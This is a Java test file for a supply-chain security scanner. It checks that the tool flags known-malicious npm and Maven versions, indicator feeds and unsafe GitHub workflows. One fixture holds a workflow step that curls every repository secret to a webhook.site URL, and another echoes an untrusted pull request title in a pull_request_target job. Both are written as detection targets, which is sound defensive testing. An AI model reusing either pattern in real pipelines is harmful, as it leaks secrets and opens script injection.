package dev.assay.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.app.cli.Cli.Ran;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** Packages that are known to be bad, as a user meets them. */
class IndicatorsEndToEndTest {
    @TempDir
    Path folder;

    private Cli cli;

    @BeforeEach
    void make() throws IOException {
        cli = new Cli(folder);
        Files.createDirectory(folder.resolve("repo"));
    }

    private void write(String name, String text) throws IOException {
        Files.writeString(folder.resolve(name), text);
    }

    private Report json(String... arguments) {
        Ran ran = cli.run(arguments);
        return Report.of(ran.code(), ran.out(), ran.err());
    }

    private static List<String> findings(Report report) {
        return report.json()
                .get("findings")
                .valueStream()
                .map(each -> each.get("ruleId").stringValue() + " "
                        + each.at("/evidence/purl").stringValue() + " "
                        + each.at("/location/path").stringValue() + ":"
                        + each.at("/location/line").intValue())
                .toList();
    }

    @Test
    void aLockedVersionOfACampaignIsCriticalWhereverItIsNested() throws IOException {
        write("repo/package-lock.json", """
            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
              "": {"name": "x", "version": "1.0.0", "dependencies": {"a": "^1.0.0"}},
              "node_modules/a": {"version": "1.0.0", "dependencies": {"debug": "^4.0.0"}},
              "node_modules/a/node_modules/debug": {"version": "4.4.2"},
              "node_modules/chalk": {"version": "5.6.0"}}}
            """);
        write("repo/requirements.txt", "debug==4.4.2\nchalk==5.6.1\n");
        Report report = json("scan", "--format", "json", "repo");
        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
        assertThat(findings(report))
                .containsExactly("indicator/malicious-package pkg:npm/debug@4.4.2 package-lock.json:4");
        assertThat(report.json().at("/findings/0/evidence/path").stringValue()).isEqualTo("a@1.0.0");
        JsonNode table = report.json().at("/referenceData/0");
        assertThat(table.get("name").stringValue()).isEqualTo("campaigns");
        assertThat(table.get("digest").stringValue()).startsWith("sha256:");
    }

    /** Whoever looks for campaigns among their own sources finds none in ours: fixtures name no package of any. */
    @Test
    void ourOwnSourcesNameNothingBad() {
        Path root = Path.of("").toAbsolutePath().getParent();
        String[] sources = Stream.of("app", "bench", "connectors", "detectors", "engine")
                .map(module -> root.resolve(module).resolve("src").toString())
                .toArray(String[]::new);
        String[] options = {"--only", "indicator", "--offline", "--no-cache"};
        Report report =
                Report.of(cli, Stream.of(options, sources).flatMap(Stream::of).toArray(String[]::new));
        assertThat(report.findings()).isEmpty();
        assertThat(report.json().at("/coverage/files").intValue()).isGreaterThan(3_000);
    }

    /** A name decides what a file is, so each link's counts: also behind one that hides it, and where somebody left that one out. */
    @Test
    void aLockfileIsSeenBehindEachOfItsLinks() throws IOException {
        write("repo/data.bin", """
            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
              "node_modules/debug": {"version": "4.4.2"}}}
            """);
        for (String link : List.of("a.bin", "b.txt", "package-lock.json")) {
            Files.createSymbolicLink(folder.resolve("repo/" + link), Path.of("data.bin"));
        }
        Files.createDirectories(folder.resolve("repo/other"));
        Files.createSymbolicLink(folder.resolve("repo/other/package-lock.json"), Path.of("../data.bin"));
        assertThat(findings(json("scan", "--format", "json", "repo")))
                .containsExactly(
                        "indicator/malicious-package pkg:npm/debug@4.4.2 other/package-lock.json:2",
                        "indicator/malicious-package pkg:npm/debug@4.4.2 package-lock.json:2");
        assertThat(findings(json("scan", "--format", "json", "--exclude", "other/**", "repo")))
                .containsExactly("indicator/malicious-package pkg:npm/debug@4.4.2 package-lock.json:2");
    }

    @Test
    void aFolderOfWorkflowsIsSeenBehindTheLinkThatMakesItOne() throws IOException {
        Files.createDirectories(folder.resolve("repo/data/workflows"));
        write("repo/data/workflows/ci.yml", """
            on: pull_request_target
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "${{ github.event.pull_request.title }}"
            """);
        Files.createSymbolicLink(folder.resolve("repo/!first"), Path.of("data"));
        assertThat(rules(json("scan", "--format", "json", "repo"))).isEmpty();
        Files.createSymbolicLink(folder.resolve("repo/.github"), Path.of("data"));
        assertThat(rules(json("scan", "--format", "json", "repo"))).contains("indicator/workflow-script-injection");
    }

    /** Whoever asks for names alone is told as well, and nobody is told twice. */
    @Test
    void aVersionThatIsKnownToBeMaliciousIsOneFindingInEachFamily() throws IOException {
        write("package-lock.json", """
            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
              "node_modules/debug": {"version": "4.4.2"},
              "node_modules/chalk": {"version": "5.6.0"}}}
            """);
        assertThat(rules(json("scan", "--format", "json", "--only", "package", "package-lock.json")))
                .containsExactly("package/known-malicious");
        assertThat(rules(json("scan", "--format", "json", "--only", "package,indicator", "package-lock.json")))
                .containsExactly("indicator/malicious-package");
        assertThat(rules(json("scan", "--format", "json", "package-lock.json")))
                .containsExactly("indicator/malicious-package");
    }

    @Test
    void aChoiceOfVersionsWithAMaliciousOneIsToldByCheckAsByAScan() throws IOException {
        write("package.json", "{\"dependencies\": {\"debug\": \"^4.4.0\", \"chalk\": \"4.1.2\"}}");
        for (String command : List.of("scan", "check")) {
            List<String> arguments = command.equals("scan")
                    ? List.of("scan", "--format", "json", "package.json")
                    : List.of("check", "--offline", "--format", "json", "package.json");
            Report report = json(arguments.toArray(String[]::new));
            assertThat(rules(report)).as(command).containsExactly("indicator/malicious-if-taken");
            assertThat(report.code()).isEqualTo(ExitCode.CLEAN);
        }
    }

    private static List<String> rules(Report report) {
        return report.json()
                .get("findings")
                .valueStream()
                .map(each -> each.get("ruleId").stringValue())
                .toList();
    }

    @Test
    void aVersionThatAParentPomDecidesIsComparedAsTheOneThatIsTaken() throws IOException {
        write("feed.csv", "ecosystem,name,version\nmaven,g:bad,1.2\nmaven,g:good,1.0\n");
        String parent = "<parent><groupId>o</groupId><artifactId>root</artifactId><version>1</version></parent>";
        String asked = """
            <dependencies>
            <dependency><groupId>g</groupId><artifactId>bad</artifactId></dependency>
            <dependency><groupId>g</groupId><artifactId>good</artifactId><version>${good}</version></dependency>
            </dependencies>
            """;
        Files.createDirectory(folder.resolve("repo/module"));
        write("repo/module/pom.xml", "<project>" + parent + "<artifactId>m</artifactId>\n" + asked + "</project>");
        Report alone = json("scan", "--format", "json", "--indicators", "feed.csv", "repo");
        assertThat(findings(alone))
                .containsExactly(
                        "indicator/malicious-if-taken pkg:maven/g/bad module/pom.xml:3",
                        "indicator/malicious-if-taken pkg:maven/g/good module/pom.xml:4");
        write("repo/pom.xml", """
            <project><groupId>o</groupId><artifactId>root</artifactId><version>1</version><packaging>pom</packaging>
            <properties><good>2.0</good></properties>
            <dependencyManagement><dependencies>
            <dependency><groupId>h</groupId><artifactId>other</artifactId><version>3</version></dependency>
            <dependency><groupId>g</groupId><artifactId>bad</artifactId><version>1.2</version></dependency>
            </dependencies></dependencyManagement></project>
            """);
        Report whole = json("scan", "--format", "json", "--indicators", "feed.csv", "--facts", "repo");
        assertThat(whole.code()).isEqualTo(ExitCode.UNSAFE);
        assertThat(findings(whole)).containsExactly("indicator/malicious-package pkg:maven/g/bad@1.2 module/pom.xml:3");
        assertThat(whole.json()
                        .get("dependencies")
                        .valueStream()
                        .map(each -> each.get("purl").stringValue()))
                .contains("pkg:maven/g/bad@1.2", "pkg:maven/g/good@2.0")
                .doesNotContain("pkg:maven/g/bad", "pkg:maven/g/good");
        assertThat(cli.run("scan", "--format", "cyclonedx", "repo").out())
                .contains("pkg:maven/g/good@2.0")
                .doesNotContain("pkg:maven/g/good\"");
        assertThat(json("scan", "--format", "json", "--indicators", "feed.csv", "--facts", "repo")
                        .json()
                        .get("findings")) // out of the cache as well
                .isEqualTo(whole.json().get("findings"));
    }

    @Test
    void aCommentIsObeyedOfWhatAnotherPomDecides() throws IOException {
        write("feed.csv", "ecosystem,name,version\nmaven,g:bad,5\n");
        Files.createDirectory(folder.resolve("repo/module"));
        write("repo/pom.xml", """
            <project><groupId>o</groupId><artifactId>root</artifactId><version>1</version><packaging>pom</packaging>
            <properties><v>5</v></properties></project>
            """);
        write("repo/module/pom.xml", """
            <project><parent><groupId>o</groupId><artifactId>root</artifactId><version>1</version></parent>
            <artifactId>m</artifactId><dependencies>
            <dependency><groupId>g</groupId><artifactId>bad</artifactId><version>${v}</version></dependency>%s
            </dependencies></project>
            """.formatted("<!-- assay:ignore indicator/malicious-package reason=tried -->"));
        String[] scan = {"scan", "--format", "json", "--indicators", "feed.csv", "repo"};
        assertThat(findings(json(scan)))
                .containsExactly("indicator/malicious-package pkg:maven/g/bad@5 module/pom.xml:3");
        Report trusted = json("scan", "--format", "json", "--trust-target", "--indicators", "feed.csv", "repo");
        assertThat(findings(trusted)).isEmpty();
        assertThat(trusted.json().get("suppressed").size()).isEqualTo(1);
    }

    @Test
    void aDigestOfTheUsersFeedIsFoundUnderAnyNameAndWithoutThatFeedNothingIsDigested() throws IOException {
        write("repo/notes.bin", "abc");
        write("feed.csv", "ecosystem,name\nsha256,ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\n");
        Report report = json("scan", "--format", "json", "--indicators", "feed.csv", "repo");
        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
        assertThat(report.json().at("/findings/0/ruleId").stringValue()).isEqualTo("indicator/known-file");
        assertThat(json("scan", "--format", "json", "repo").code()).isEqualTo(ExitCode.CLEAN);
    }

    @Test
    void aDigestThatIsNoneIsRefusedWithItsLine() throws IOException {
        write("repo/a.txt", "a");
        write("feed.csv", "ecosystem,name\nsha256,abc\n");
        Ran ran = cli.run("scan", "--indicators", "feed.csv", "repo");
        assertThat(ran.code()).isEqualTo(ExitCode.USAGE);
        assertThat(ran.err()).contains("line 2: 'abc' is no SHA-256 in hexadecimal");
    }

    @Test
    void aWorkflowThatGivesSecretsAwayIsUnsafe() throws IOException {
        Files.createDirectories(folder.resolve("repo/.github/workflows"));
        write("repo/.github/workflows/ci.yml", """
            on: push
            jobs:
              a:
                runs-on: SHA1HULUD
                steps:
                  - run: curl -d '${{ toJSON(secrets) }}' https://webhook.site/1
            """);
        Report report = json("scan", "--format", "json", "repo");
        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
        assertThat(report.json()
                        .get("findings")
                        .valueStream()
                        .map(each -> each.get("ruleId").stringValue()))
                .contains(
                        "indicator/campaign-runner",
                        "indicator/workflow-secrets-dump",
                        "indicator/workflow-sends-secrets");
    }

    @Test
    void aRangeThatAdmitsABadVersionIsLowAndTheRestSilent() throws IOException {
        write("repo/package.json", "{\"dependencies\": {\"debug\": \"^4.0.0\", \"chalk\": \"^4.0.0\"}}");
        Report report = json("scan", "--format", "json", "repo");
        assertThat(report.code()).isEqualTo(ExitCode.CLEAN);
        assertThat(findings(report)).containsExactly("indicator/malicious-if-taken pkg:npm/debug package.json:1");
    }

    @Test
    void ownIndicatorsComeOnTopAndAreKeyOfTheSettings() throws IOException {
        write("feed.txt", "npm chalk 4.1.2 # ours\n");
        write("assay.yaml", "indicators: feed.txt\n");
        write("repo/package-lock.json", """
            {"name": "x", "lockfileVersion": 3, "packages": {"node_modules/chalk": {"version": "4.1.2"}}}
            """);
        Report report = json("scan", "--format", "json", "repo");
        assertThat(findings(report))
                .containsExactly("indicator/malicious-package pkg:npm/chalk@4.1.2 package-lock.json:1");
        assertThat(report.json().at("/referenceData/1/name").stringValue()).isEqualTo("feed.txt");
    }

    @Test
    void aFaultyLineIsAWrongUsageWithItsNumber() throws IOException {
        write("feed.txt", "npm chalk 4.1.2\nnpm chalk 1 to 2\n");
        Ran ran = cli.run("scan", "--indicators", "feed.txt", "repo");
        assertThat(ran.code()).isEqualTo(ExitCode.USAGE);
        assertThat(ran.err()).contains("feed.txt", "line 2: versions are parted by commas");
        assertThat(cli.run("scan", "--indicators", "nowhere.txt", "repo").code())
                .isEqualTo(ExitCode.USAGE);
    }

    @Test
    void withoutPackagesNoTableIsLookedInto() throws IOException {
        write("repo/a.pkl", "I1\n.");
        assertThat(json("scan", "--format", "json", "repo").json().get("referenceData"))
                .isEmpty();
    }

    @Test
    void checkKnowsTheVersionThatIsMeant() {
        Report report = json("check", "--format", "json", "pkg:npm/debug@4.4.2");
        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
        assertThat(report.json().at("/packages/0/verdict").stringValue()).isEqualTo("malicious");
        assertThat(json("check", "--format", "json", "pkg:npm/debug@4.4.1").code())
                .isEqualTo(ExitCode.CLEAN);
        assertThat(json("check", "--format", "json", "pkg:npm/debug").code()).isEqualTo(ExitCode.CLEAN);
    }

    @Test
    void checkOfALockfileNamesTheBadVersionBehindAGoodOne() throws IOException {
        write("package-lock.json", """
            {"name": "x", "lockfileVersion": 3, "packages": {
              "node_modules/debug": {"version": "4.4.1"},
              "node_modules/b/node_modules/debug": {"version": "4.4.2"}}}
            """);
        Report report = json("check", "--format", "json", "package-lock.json");
        assertThat(report.json().at("/findings/0/ruleId").stringValue()).isEqualTo("package/known-malicious");
    }

    @Test
    void aNamespaceOfOnesOwnIsNotWhatOthersPublished() throws IOException {
        write("feed.txt", "npm @acme/tool\n");
        assertThat(json("check", "--format", "json", "--indicators", "feed.txt", "pkg:npm/%40acme/tool")
                        .code())
                .isEqualTo(ExitCode.UNSAFE);
        assertThat(json(
                                "check",
                                "--format",
                                "json",
                                "--indicators",
                                "feed.txt",
                                "--private",
                                "@acme/",
                                "pkg:npm/%40acme/tool")
                        .code())
                .isEqualTo(ExitCode.CLEAN);
    }
}
